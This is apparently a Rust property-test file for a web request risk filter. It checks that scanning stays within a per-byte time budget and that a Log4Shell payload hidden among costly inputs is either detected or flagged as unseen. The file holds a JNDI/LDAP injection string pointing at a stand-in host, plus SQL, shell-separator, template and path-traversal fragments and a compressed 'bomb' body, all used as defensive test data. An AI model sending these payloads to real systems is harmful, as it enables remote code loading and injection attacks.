//! Does a request's work stay within what its size allows, and is nothing hidden behind what is costly?

use proptest::prelude::*;
use user_risk_filter::detect::rule_set::RuleSet;
use user_risk_filter::detect::scan::Scan;
use user_risk_filter::exchange::head::Head;
use user_risk_filter::read::{self, Body};

/// What is to be found: no other part is of this rule.
const PAYLOAD: &str = "${jndi:ldap://x.example/a}";
/// Harmless parts, and costly ones: those fire many verifiers, or have many positions.
const HARMLESS: &[&str] = &["blue", "It was a dark and stormy night. ", "42"];
const COSTLY: &[&str] =
    &["';id", "\n", "a;b|c", "{{x}} ", "<a b='c'>", "' or 1=", "http://a/?b=' ", "java.lang.", "/a/..", "&amp;lt;"];
/// The most that any request may come to, in nanoseconds: a constant and a share for each byte.
const START: u64 = 20_000_000;
const BYTE: u64 = 70;
/// What is charged when it has been read is owed: at most a piece of 4 KiB full of the shell's shortest commands.
const OWED: u64 = 6_500_000;

/// How a body carries its parts.
#[derive(Clone, Copy, Debug)]
enum Shape {
    Form,
    Json,
    Text,
    Packed,
}

struct Scanned {
    rules: Vec<String>,
    unseen: u64,
    work: u64,
    arrived: u64,
}

fn body(shape: Shape, parts: &[String]) -> (&'static str, &'static str, Vec<u8>) {
    let coded = |part: &String| part.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    match shape {
        Shape::Form | Shape::Packed => {
            let form = parts.iter().map(|part| format!("p={}", coded(part))).collect::<Vec<_>>().join("&");
            let packed = || miniz_oxide::deflate::compress_to_vec_zlib(form.as_bytes(), 6);
            match shape {
                Shape::Packed => ("application/x-www-form-urlencoded", "deflate", packed()),
                _ => ("application/x-www-form-urlencoded", "identity", form.into_bytes()),
            }
        }
        Shape::Json => ("application/json", "identity", serde_json::json!(parts).to_string().into_bytes()),
        Shape::Text => ("text/plain", "identity", parts.join("\n ").into_bytes()),
    }
}

fn scan(shape: Shape, parts: &[String]) -> Scanned {
    let rules = RuleSet::builtin();
    let (kind, coding, body) = body(shape, parts);
    let head = [(":method", "POST"), (":path", "/a"), ("content-type", kind), ("content-encoding", coding)];
    let head = Head::new(head.into_iter().collect());
    let mut scan = Scan::new();
    scan.arrived(head.headers().size());
    read::head(&head, &mut |field| scan.push(&rules, field));
    let mut reader = Body::new(&head, 1 << 20);
    for chunk in body.chunks(16 << 10) {
        scan.arrived(chunk.len());
        reader.push(chunk, &mut |field| scan.push(&rules, field));
    }
    reader.finish(&mut |field| scan.push(&rules, field));
    let found = scan.take();
    Scanned {
        rules: found.iter().map(|one| rules.rule(one.rule).id.to_owned()).collect(),
        unseen: scan.take_unseen(),
        work: scan.work(),
        arrived: (head.headers().size() + body.len()) as u64,
    }
}

/// Checks one request; says whether its budget was spent.
fn check(shape: Shape, parts: &[String]) -> bool {
    let Scanned { rules, unseen, work, arrived } = scan(shape, parts);
    let is_short = rules.iter().any(|rule| rule == "protocol.work");
    let is_found = rules.iter().any(|rule| rule.starts_with("log4shell."));
    assert!(is_found || is_short && unseen > 0, "{shape:?}: hidden, {unseen} bytes unseen, {rules:?}");
    assert!(!is_short || unseen > 0, "{shape:?}: what was not looked at is not counted");
    assert!(work <= START + BYTE * arrived + OWED, "{shape:?}: {work} for {arrived} bytes");
    is_short
}

#[test]
fn the_budget_is_spent_by_what_is_costly_and_by_nothing_else() {
    for (name, shape, part, times, expected) in [
        ("a long text", Shape::Text, HARMLESS[1], 4000, false),
        ("a long document", Shape::Json, HARMLESS[0], 4000, false),
        ("some costly values", Shape::Json, "';id", 200, false),
        ("a costly text", Shape::Text, "a;b|c", 500, false),
        ("very many costly values", Shape::Json, "';id", 20_000, true),
        ("a long costly text", Shape::Text, "a;b|c", 40_000, true),
        ("a bomb", Shape::Packed, "';id", 40_000, true),
    ] {
        let mut parts = vec![part.to_owned(); times];
        parts.push(PAYLOAD.to_owned());
        assert_eq!(check(shape, &parts), expected, "{name}");
    }
}

#[test]
fn what_its_own_bytes_earned_is_a_values_alone() {
    // However costly all before it were.
    let mut parts = vec!["';id".to_owned(); 30_000];
    parts.push(PAYLOAD.to_owned());
    let rules = scan(Shape::Json, &parts).rules;
    assert!(rules.contains(&"protocol.work".to_owned()), "{rules:?}");
    assert!(rules.iter().any(|rule| rule.starts_with("log4shell.")), "{rules:?}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn a_payload_is_found_or_counted_as_unseen(
        shape in prop::sample::select(vec![Shape::Form, Shape::Json, Shape::Text, Shape::Packed]),
        parts in prop::collection::vec(
            (prop_oneof![1 => prop::sample::select(HARMLESS), 3 => prop::sample::select(COSTLY)], 1_usize..2000, any::<bool>()), 1..24),
        at in any::<prop::sample::Index>(),
    ) {
        let mut all: Vec<String> = Vec::new();
        for (part, times, is_one) in &parts {
            // As one long value, or as many short ones.
            if *is_one { all.push(part.repeat(*times)) } else { all.extend(vec![(*part).to_owned(); *times]) }
        }
        all.insert(at.index(all.len() + 1), PAYLOAD.to_owned());
        check(shape, &all);
    }
}
